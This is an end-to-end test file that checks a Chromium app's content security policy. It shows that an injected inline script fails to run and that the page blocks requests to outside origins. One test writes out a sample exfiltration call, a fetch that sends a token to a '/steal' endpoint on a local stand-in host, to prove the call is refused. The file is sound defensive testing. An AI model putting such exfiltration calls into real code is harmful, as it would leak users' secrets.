import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { openE2E, type E2ESession } from '../support/e2e-session';

// In a real Chromium page: injected inline script does not run, and the page cannot connect to
// any origin but its own bridge, so a script that got in could not carry data away.
let e2e: E2ESession;
let page: Page;
let problems: string[];

beforeAll(async () => {
  e2e = await openE2E('csp');
  ({ page, problems } = await e2e.open());
  await page.getByRole('navigation', { name: 'Main sections' }).waitFor();
});

afterAll(async () => {
  await e2e?.close();
});

describe('content security policy in Chromium', () => {
  it('the app starts with no CSP complaint of its own', () => {
    expect(problems.filter((p) => /Content Security Policy/i.test(p))).toEqual([]);
  });

  it('an injected inline script does not run', async () => {
    // Page code as text: this file is type-checked without the DOM library.
    const ran = await page.evaluate(`(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.head.append(script);
      await new Promise((r) => setTimeout(r, 50));
      return window.__injected === true;
    })()`);
    expect(ran).toBe(false);
  });

  it('fetch to any other origin is refused by the page itself', async () => {
    const outcome = await page.evaluate(`(async () => {
      try {
        await fetch('http://127.0.0.1:9/steal?token=x');
        return 'sent';
      } catch {
        return 'blocked';
      }
    })()`);
    expect(outcome).toBe('blocked');
    expect(problems.some((p) => /connect-src/.test(p))).toBe(true);
  });

  it('the bridge on its own origin still answers', async () => {
    const mode = await page.evaluate(`(async () => {
      const r = await window.desk.app.info();
      return r.ok ? r.data.mode : r.error.code;
    })()`);
    expect(mode).toBe('demo');
  });
});
